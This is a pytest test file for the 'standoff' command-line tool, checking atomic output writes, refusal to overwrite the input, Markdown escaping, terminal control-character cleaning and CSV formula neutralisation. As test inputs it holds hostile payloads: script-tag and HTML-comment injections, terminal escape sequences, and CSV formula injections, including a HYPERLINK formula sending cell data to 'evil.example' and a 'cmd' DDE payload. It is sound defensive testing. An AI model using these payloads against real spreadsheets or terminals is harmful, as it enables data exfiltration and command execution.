"""Nothing lost, nothing injected (issue 16): how standoff writes its output.

* Output files are replaced atomically: a write that fails or is interrupted part-way (a
  file-size limit, Ctrl-C) leaves an existing file as it was and no temporary file behind;
  a Markdown report and its pictures are replaced together or not at all.
* ``-o`` naming the input model (by any path) is refused; standard output, devices and
  FIFOs are written directly; a symbolic link is written through.
* Every ``--format markdown`` output escapes model text (tests/repro/07*).
* Text output shows control characters from the model as visible escapes (tests/repro/08).
* CSV output neutralises cells a spreadsheet would read as formulas (tests/repro/12*).
* Text that cannot be encoded never leaves a 0-byte file (tests/repro/10).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from cli_runner import run
from conftest import EXAMPLES, ROOT
from markdown_it import MarkdownIt

from standoff import output as output_module
from standoff.cli.common import make_console, write_files
from standoff.errors import ModelError
from standoff.output import csv_text, replace_files, terminal_text

REPRO = ROOT / "tests" / "repro"
ELMIRA = EXAMPLES / "elmira.yaml"
ISTANBUL = EXAMPLES / "istanbul-2025" / "istanbul-2025.yaml"
ORIGINAL = "ORIGINAL CONTENT\n" * 20000


def _leftovers(folder: Path) -> list[str]:
    """Temporary files the writer may have left in ``folder``."""
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


def _refused(result, *needles: str) -> None:
    assert result.code == 2, (result.out, result.err)
    assert "Traceback" not in result.err
    assert "\n  fix: " in result.err
    for needle in needles:
        assert needle in result.err, result.err


# -- 1. atomic replacement ---------------------------------------------------------------------


def _standoff_with_file_limit(limit: int, *args: object, cwd: Path):
    """Run ``python -m standoff ARGS`` in a subprocess whose files may not grow past
    ``limit`` bytes (RLIMIT_FSIZE: a write beyond fails with EFBIG, as on a full disk)."""
    def limit_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, resource.RLIM_INFINITY))

    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    return subprocess.run([sys.executable, "-m", "standoff", *map(str, args)], cwd=cwd,
                          env=env, capture_output=True, text=True, preexec_fn=limit_files,
                          timeout=300)


@pytest.mark.skipif(not hasattr(resource, "RLIMIT_FSIZE"), reason="needs RLIMIT_FSIZE")
def test_a_report_that_cannot_be_finished_leaves_the_existing_one(tmp_path):
    """tests/repro/18_output_safety.sh: the old writer left 40 KB of a 340 KB report."""
    existing = tmp_path / "existing.html"
    existing.write_text(ORIGINAL, encoding="utf-8")
    done = _standoff_with_file_limit(40_000, "report", ISTANBUL, "-o", existing.name,
                                     cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert "cannot write existing.html: File too large" in done.stderr
    assert "ulimit -f" in done.stderr
    assert existing.read_text(encoding="utf-8") == ORIGINAL
    assert _leftovers(tmp_path) == []


@pytest.mark.skipif(not hasattr(resource, "RLIMIT_FSIZE"), reason="needs RLIMIT_FSIZE")
def test_a_markdown_report_and_its_graph_are_replaced_together_or_not_at_all(tmp_path):
    """The state graph (15 KB) fits under the limit, the report (50 KB) does not: the old
    writer replaced the .svg, then failed on the .md; now neither is touched."""
    report, graph = tmp_path / "r.md", tmp_path / "r.svg"
    report.write_text("old report\n", encoding="utf-8")
    graph.write_text("<svg>old</svg>\n", encoding="utf-8")
    done = _standoff_with_file_limit(30_000, "report", ISTANBUL, "-o", report.name,
                                     cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "cannot write r.md: File too large" in done.stderr
    assert report.read_text(encoding="utf-8") == "old report\n"
    assert graph.read_text(encoding="utf-8") == "<svg>old</svg>\n"
    assert _leftovers(tmp_path) == []


def test_an_interrupted_write_leaves_every_file_as_it_was(tmp_path, monkeypatch):
    """Ctrl-C while the second of two files is being flushed: the first is not renamed
    either, and both temporary files are removed."""
    first, second = tmp_path / "r.svg", tmp_path / "r.md"
    first.write_text("old picture", encoding="utf-8")
    second.write_text("old report", encoding="utf-8")
    real_fsync = os.fsync
    calls = []

    def fsync(fd: int) -> None:
        calls.append(fd)
        if len(calls) == 2:
            raise KeyboardInterrupt
        real_fsync(fd)

    monkeypatch.setattr(output_module.os, "fsync", fsync)
    with pytest.raises(KeyboardInterrupt):
        write_files([(first, "<svg>new</svg>", " (a picture)"), (second, "new report", "")])
    assert first.read_text(encoding="utf-8") == "old picture"
    assert second.read_text(encoding="utf-8") == "old report"
    assert _leftovers(tmp_path) == []


def test_a_write_failing_part_way_leaves_the_file_and_no_temporary_file(tmp_path,
                                                                          monkeypatch):
    target = tmp_path / "a.txt"
    target.write_text("old", encoding="utf-8")
    real_write = os.write

    def write(fd: int, data) -> int:  # half of the data, then a full disk
        if len(data) > 4:
            return real_write(fd, bytes(data[: len(data) // 2]))
        raise OSError(28, os.strerror(28))

    monkeypatch.setattr(output_module.os, "write", write)
    with pytest.raises(ModelError) as caught:
        write_files([(target, "new content", "")])
    assert "No space left on device" in caught.value.message
    assert "make room on the disk" in caught.value.hint
    assert target.read_text(encoding="utf-8") == "old"
    assert _leftovers(tmp_path) == []


def test_a_replaced_file_keeps_its_permissions_and_a_new_one_follows_the_umask(tmp_path):
    kept = tmp_path / "kept.txt"
    kept.write_text("old", encoding="utf-8")
    kept.chmod(0o640)
    new = tmp_path / "new.txt"
    mask = os.umask(0o027)
    try:
        replace_files([(kept, b"new"), (new, b"fresh")])
    finally:
        os.umask(mask)
    assert kept.read_bytes() == b"new" and stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert new.read_bytes() == b"fresh" and stat.S_IMODE(new.stat().st_mode) == 0o640


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0,
                    reason="needs a user whom file permissions bind")
def test_a_read_only_file_is_refused_not_replaced(tmp_path):
    target = tmp_path / "a.txt"
    target.write_text("keep", encoding="utf-8")
    target.chmod(0o444)
    result = run("analyze", ELMIRA, "-o", target)
    _refused(result, "Permission denied")
    assert target.read_text(encoding="utf-8") == "keep"


def test_a_symbolic_link_is_written_through_and_kept(tmp_path):
    real = tmp_path / "real.txt"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o604)
    link = tmp_path / "link.txt"
    link.symlink_to(real)
    result = run("analyze", ELMIRA, "-f", "csv", "-o", link)
    assert result.code == 0, result.err
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert real.read_text(encoding="utf-8").startswith("\ufeffstate,pattern,")  # CSV: a BOM
    assert stat.S_IMODE(real.stat().st_mode) == 0o604
    assert _leftovers(tmp_path) == []


def test_text_that_cannot_be_encoded_writes_nothing(tmp_path):
    """tests/repro/10_lone_surrogate.json: a lone surrogate gave a 0-byte report. The writer
    encodes before it touches any file (the loader may refuse the file earlier still)."""
    report = tmp_path / "s.html"
    result = run("report", REPRO / "10_lone_surrogate.json", "-o", report)
    assert result.code == 2, result.err
    assert "Traceback" not in result.err
    assert not report.exists()
    existing = tmp_path / "e.md"
    existing.write_text("old", encoding="utf-8")
    with pytest.raises(ModelError) as caught:
        write_files([(existing, "A\ud800", "")])
    assert "U+D800" in caught.value.message
    assert existing.read_text(encoding="utf-8") == "old"
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("fmt", ["table", "json", "markdown"])
def test_printing_a_lone_surrogate_never_crashes(fmt):
    """tests/repro/10_lone_surrogate.json, ``explain 1 --dm a``: UnicodeEncodeError on
    standard output. Printed text shows it as ``\\ud800`` (the loader may refuse the file
    first: then a clean exit 2)."""
    result = run("explain", REPRO / "10_lone_surrogate.json", "1", "--dm", "a", "-f", fmt)
    assert "Traceback" not in result.err
    assert result.code in (0, 2), result.err
    if result.code == 0:
        assert "\\ud800" in result.out
        result.out.encode("utf-8")
    else:
        assert "\n  fix: " in result.err


# -- 2. which targets: the input, standard output, devices, FIFOs ------------------------------


def _copy_of_mini(tmp_path: Path) -> Path:
    model = tmp_path / "victim.yaml"
    model.write_text((REPRO / "mini.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    return model


@pytest.mark.parametrize("command", [
    ["analyze"], ["analyze", "-f", "markdown"], ["paths"], ["coalitions"],
    ["inverse", "--state", "1", "--vary", "a"],
])
def test_output_naming_the_input_model_is_refused(tmp_path, command):
    """tests/repro/18_output_safety.sh: ``analyze victim.yaml -o victim.yaml`` replaced
    the model with its own analysis."""
    model = _copy_of_mini(tmp_path)
    before = model.read_text(encoding="utf-8")
    (tmp_path / "sub").mkdir()
    (tmp_path / "alias.yaml").symlink_to(model)
    os.link(model, tmp_path / "hard.yaml")
    for target in (model, tmp_path / "sub" / ".." / "victim.yaml", tmp_path / "alias.yaml",
                   tmp_path / "hard.yaml"):
        result = run(command[0], model, *command[1:], "-o", target)
        _refused(result, f"cannot write {target}: it is the input file {model}",
                 "writing there would replace the model")
        assert result.err.startswith("--output: error:")
    assert model.read_text(encoding="utf-8") == before


def test_report_and_plot_naming_the_input_are_refused(tmp_path):
    model = _copy_of_mini(tmp_path)
    html = tmp_path / "m.html"
    html.write_text(model.read_text(encoding="utf-8"), encoding="utf-8")
    _refused(run("report", html, "-o", html), "it is the input file")
    bargaining = tmp_path / "b.svg"
    bargaining.write_text((EXAMPLES / "bargaining" / "ec_emissions.yaml")
                          .read_text(encoding="utf-8"), encoding="utf-8")
    before = bargaining.read_text(encoding="utf-8")
    result = run("forecast", bargaining, "--plot", bargaining)
    _refused(result, "it is the input file")
    assert bargaining.read_text(encoding="utf-8") == before


@pytest.mark.parametrize("target", ["-", "/dev/stdout"])
def test_standard_output_as_the_output_file(target, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("analyze", ELMIRA, "-f", "csv", "-o", target)
    assert result.code == 0, result.err
    assert result.out.startswith("state,pattern,")
    assert list(tmp_path.iterdir()) == []  # no file named "-"


@pytest.mark.skipif(not Path("/dev/null").exists(), reason="needs /dev/null")
def test_a_device_is_written_directly():
    result = run("analyze", ELMIRA, "-o", "/dev/null")
    assert result.code == 0, result.err
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_is_written_directly(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run("analyze", ELMIRA, "-f", "csv", "-o", fifo)
    reader.join(timeout=60)  # a hang guard, not a timing assertion
    assert result.code == 0, result.err
    assert received and received[0].startswith(b"state,pattern,")
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert _leftovers(tmp_path) == []


# -- 3. Markdown: every command escapes model text ---------------------------------------------

#: Each piece of model text carries every payload, with a marker saying where it came from.
PAYLOAD = "<b>bold</b> {tag}|pipe *{tag}* --> <script>alert('{tag}')</script>"

HOSTILE_MODEL = f"""format: standoff/1
title: "{PAYLOAD.format(tag='title')}"
view: "{PAYLOAD.format(tag='view')}"
decision_makers:
  a:
    name: "{PAYLOAD.format(tag='dm')}"
    options: {{x: {{text: "{PAYLOAD.format(tag='option')}"}}}}
  b: {{name: B, options: {{y: {{text: Y}}}}}}
preferences:
  a: {{prioritize: [x]}}
  b: {{prioritize: [y]}}
status_quo: []
claims:
  c: {{check: no equilibrium has x, text: "{PAYLOAD.format(tag='claim')}"}}
variants:
  v: {{description: "{PAYLOAD.format(tag='variant')}", assumption: a}}
"""

MARKDOWN_COMMANDS = [
    ["analyze"], ["analyze", "--all-variants"],
    ["states"], ["states", "--all-variants"],
    ["explain", "@", "1", "--dm", "a"], ["explain", "@", "1", "--dm", "a", "--all-variants"],
    ["lookahead", "@", "1", "--dm", "a"], ["lookahead", "@", "1", "--dm", "a", "--all-variants"],
    ["claims"], ["claims", "--variant", "v"],
    ["paths"], ["paths", "--all-variants"],
    ["coalitions"], ["coalitions", "--all-variants"],
    ["coalitions", "--explain", "1"], ["coalitions", "--explain", "1", "--all-variants"],
    ["inverse", "--state", "1", "--vary", "a"], ["inverse", "--state", "1", "--vary", "a",
                                                 "--variant", "v"],
]

TAGS = ("title", "view", "dm", "option", "claim", "variant")
#: What must not appear: HTML, a comment's end, an unescaped pipe or emphasis, an entity.
RAW = ["<b>", "</b>", "-->", *(f"{t}|pipe" for t in TAGS), *(f"*{t}*" for t in TAGS),
       "&lt;", "&gt;", "&amp;"]


def commonmark_html(text: str) -> str:
    """Markdown rendered by a CommonMark renderer that lets raw HTML through (as GitHub's
    and most viewers' first pass does) with GitHub tables."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.yaml"
    path.write_text(HOSTILE_MODEL, encoding="utf-8")
    return path


def _assert_no_raw_model_text(text: str) -> None:
    for raw in RAW:
        assert raw not in text, f"{raw!r} printed raw:\n{text}"
    assert not re.search(r"(?<!\\)<(?:script|/?b>)", text)  # every < of model text escaped
    assert "\\<script\\>" in text  # the model text is there, backslash-escaped
    assert "\\|pipe" in text
    html = commonmark_html(text)  # and a CommonMark renderer shows it as text
    assert not re.search(r"<(script|b|!--)", html), html
    assert "&lt;script&gt;alert(" in html and "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "--&gt;" in html


@pytest.mark.parametrize("command", MARKDOWN_COMMANDS, ids=" ".join)
def test_markdown_output_escapes_model_text(hostile_model, command):
    """tests/repro/07_md_inject.yaml, 07b_quote_inject.yaml: model text used to be printed
    raw, and a variant description with ``-->`` broke out of an HTML comment."""
    args = [hostile_model if a == "@" else a for a in command]
    if "@" not in command:
        args.insert(1, hostile_model)
    result = run(*args, "--format", "markdown")
    assert result.code == 0, result.err
    _assert_no_raw_model_text(result.out)
    if "--all-variants" in command or "--variant" in command:
        assert "variant v" in result.out.lower() or "- **v**: " in result.out


def test_markdown_report_escapes_model_text(hostile_model, tmp_path):
    report = tmp_path / "r.md"
    result = run("report", hostile_model, "-o", report, "--all-variants")
    assert result.code == 0, result.err
    _assert_no_raw_model_text(report.read_text(encoding="utf-8"))


def test_markdown_shows_the_variant_description_outside_any_comment(hostile_model):
    result = run("analyze", hostile_model, "--all-variants", "--format", "markdown")
    assert "<!--" not in result.out
    line = next(x for x in result.out.splitlines() if x.startswith("Variant v: "))
    assert "--\\>" in line and "\\<script\\>alert('variant')\\</script\\>" in line
    assert "&lt;" not in result.out and "&gt;" not in result.out


def test_quotes_are_escaped_in_claims_markdown():
    result = run("claims", REPRO / "07b_quote_inject.yaml", "--format", "markdown")
    assert result.code == 0, result.err
    assert "&lt;" not in result.out and not re.search(r"(?<!\\)<img", result.out)
    assert "\\<img src=http" in result.out
    assert "<img" not in commonmark_html(result.out)


# -- 4. terminal output: control characters made visible -----------------------------------

TERMINAL = REPRO / "08_terminal_escape.yaml"
TEXT_COMMANDS = [
    ["analyze"], ["analyze", "--all-variants"], ["states"], ["claims"], ["paths"],
    ["coalitions"], ["coalitions", "--explain", "1"], ["check"],
    ["inverse", "--state", "1", "--vary", "a"],
    ["explain", "@", "1", "--dm", "a"], ["lookahead", "@", "1", "--dm", "a"],
    ["analyze", "--format", "markdown"], ["explain", "@", "1", "--dm", "a", "-f", "markdown"],
    ["analyze", "--format", "csv"], ["states", "--format", "csv"],
]


@pytest.mark.parametrize("command", TEXT_COMMANDS, ids=" ".join)
def test_text_output_shows_control_characters_as_escapes(command):
    """tests/repro/08_terminal_escape.yaml: a title holding ESC ] 0 ; … BEL (retitle the
    window) and ESC [ 2 J (clear the screen), a name holding CR ESC [ K (erase the line)."""
    args = [TERMINAL if a == "@" else a for a in command]
    if "@" not in command:
        args.insert(1, TERMINAL)
    result = run(*args)
    assert result.code == 0, result.err
    for control in ("\x1b", "\x07", "\r"):
        assert control not in result.out + result.err
    plain = len(command) == 1
    if command[0] in ("analyze", "states", "claims", "coalitions") and plain:
        assert "\\x1b]0;PWNED" in result.out
    if command[0] in ("explain", "lookahead", "inverse", "paths") and "-f" not in command:
        assert "A\\x0d\\x1b[Kfake" in result.out


def test_text_written_to_a_file_is_cleaned_too(tmp_path):
    target = tmp_path / "a.txt"
    assert run("analyze", TERMINAL, "-o", target).code == 0
    text = target.read_text(encoding="utf-8")
    assert "\x1b" not in text and "\\x1b[2J" in text


def test_a_terminal_gets_styles_but_not_the_models_escape_sequences():
    """On a real terminal rich writes its own escape codes (bold); the model's are shown."""
    buffer = io.StringIO()
    console = make_console(file=buffer, force_terminal=True, color_system="standard", width=80)
    from rich.table import Table
    from rich.text import Text

    table = Table(title="T\x1b]0;PWNED\x07")
    table.add_column("name\x1b[2J")
    table.add_row("A\r\x1b[Kfake")
    table.add_row(Text("x\x9bq", style="bold"))
    console.print(Text.assemble(("\x1b[31mtitle", "bold"), " rest\x1b[2J"))
    console.print(table)
    out = buffer.getvalue()
    assert "\x1b[1m" in out  # rich's bold
    for raw in ("\x1b]0;", "\x1b[2J", "\x1b[K", "\x1b[31m", "\x07", "\r", "\x9b"):
        assert raw not in out
    out = re.sub("\x1b\\[[0-9;]*m", "", out)  # rich's styles, to read the text
    for shown in ("\\x1b]0;PWNED\\x07", "\\x1b[2J", "A\\x0d\\x1b[Kfake", "x\\x9bq",
                  "\\x1b[31mtitle"):
        assert shown in out


def test_errors_show_control_characters_as_escapes():
    result = run("explain", TERMINAL, "1", "--dm", "\x1b[2Jzz")
    assert result.code == 2
    assert "\x1b" not in result.err and "\\x1b[2Jzz" in result.err


def test_json_output_escapes_what_a_terminal_would_act_on(tmp_path):
    model = tmp_path / "c1.yaml"
    model.write_text((REPRO / "mini.yaml").read_text(encoding="utf-8")
                     .replace("title: Mini", 'title: "M\\x9b2J\\u2028x"'), encoding="utf-8")
    result = run("analyze", model, "--format", "json")
    assert result.code == 0, result.err
    assert "\x9b" not in result.out and "\u2028" not in result.out
    assert json.loads(result.out)["title"] == "M\x9b2J\u2028x"


def test_terminal_text():
    assert terminal_text("plain\ttext\nline") == "plain\ttext\nline"
    assert terminal_text("a\x1b[2Jb\x00\x7f\x85\ud800") == "a\\x1b[2Jb\\x00\\x7f\\x85\\ud800"


# -- 5. CSV: no formulas from model text ---------------------------------------------------


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_forecast_csv_neutralises_formula_ids():
    """tests/repro/12_csv_formula.yaml: actor and issue ids such as =HYPERLINK(…) and
    +cmd|' /C calc'!A0 were written as they are, and a spreadsheet evaluates them."""
    result = run("forecast", REPRO / "12_csv_formula.yaml", "--format", "csv")
    assert result.code == 0, result.err
    rows = _csv_rows(result.out)
    assert rows[0] == ["issue", "round", "actor", "position"]
    for issue, _, actor, position in rows[1:]:
        assert issue == "'=1+1"
        assert actor in ("", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                         "'+cmd|' /C calc'!A0")
        float(position)


def test_negative_positions_stay_numbers(tmp_path):
    model = tmp_path / "neg.yaml"
    model.write_text("""bargaining:
  actors: [{id: "-left"}, {id: right}]
  issues:
    - id: "@tax"
      scale: [-100, 100]
      positions:
        "-left": {position: -80, salience: 0.5}
        right: {position: 20, salience: 0.5}
""", encoding="utf-8")
    result = run("forecast", model, "--format", "csv")
    assert result.code == 0, result.err
    rows = _csv_rows(result.out)[1:]
    assert {r[2] for r in rows} == {"'-left", "right", ""}
    assert all(r[0] == "'@tax" for r in rows)
    positions = {r[2]: float(r[3]) for r in rows if r[1] == "0"}
    assert positions["'-left"] == -80.0 and positions["right"] == 20.0


@pytest.mark.parametrize("command", [["analyze"], ["analyze", "--all-variants"], ["states"],
                                     ["states", "--all-variants"]], ids=" ".join)
def test_graph_model_csv_has_no_formula_cells(hostile_model, command):
    """tests/repro/12b_csv_graph.yaml and a model with hostile text: no text cell of the
    CSV starts with a formula character; stability flags and ranks stay numbers."""
    for model in (REPRO / "12b_csv_graph.yaml", hostile_model):
        result = run(command[0], model, *command[1:], "--format", "csv")
        assert result.code == 0, result.err
        rows = _csv_rows(result.out)
        for row in rows:
            for cell in row:
                assert not cell.startswith(output_module.FORMULA_START), cell
        assert all(cell.isdigit() for cell in rows[1][-2:])


def test_csv_text():
    assert csv_text("=SUM(1,2)") == "'=SUM(1,2)"
    assert csv_text("-5") == "'-5"  # model text, even when it looks like a number
    assert csv_text("@x") == "'@x" and csv_text("+x") == "'+x"
    assert csv_text("\tx") == "'\tx" and csv_text("\rx") == "'\\x0dx"
    assert csv_text("plain-text") == "plain-text"


def _table_widths(text: str) -> list[list[int]]:
    """The number of cells of each row of each Markdown table in ``text`` (a pipe escaped
    as ``\\|`` is text, not a cell boundary)."""
    tables: list[list[int]] = []
    previous = False
    for line in text.splitlines():
        row = line.startswith("|") and line.endswith("|")
        if row:
            if not previous:
                tables.append([])
            tables[-1].append(len(re.split(r"(?<!\\)\|", line)) - 2)
        previous = row
    return tables


@pytest.mark.parametrize("command", MARKDOWN_COMMANDS, ids=" ".join)
def test_markdown_tables_keep_their_columns_with_hostile_text(hostile_model, command):
    """Issue 10: one table builder (report.markdown.markdown_table) escapes every cell, so a
    pipe in a title, a decision maker or an option never adds a column."""
    args = [hostile_model if a == "@" else a for a in command]
    if "@" not in command:
        args.insert(1, hostile_model)
    result = run(*args, "--format", "markdown")
    assert result.code == 0, result.err
    for widths in _table_widths(result.out):
        assert len(widths) >= 2 and len(set(widths)) == 1, (widths, result.out)


def test_only_the_table_builder_writes_markdown_tables():
    """Issue 10: Markdown tables were built six ways with two escaping rules; every view now
    calls report.markdown_text.markdown_table, the one place a header separator is written."""
    src = Path(__file__).resolve().parent.parent / "src" / "standoff"
    writers = sorted(str(p.relative_to(src)) for p in src.rglob("*.py")
                     if "---|" in p.read_text(encoding="utf-8"))
    assert writers == ["report/markdown_text.py"]
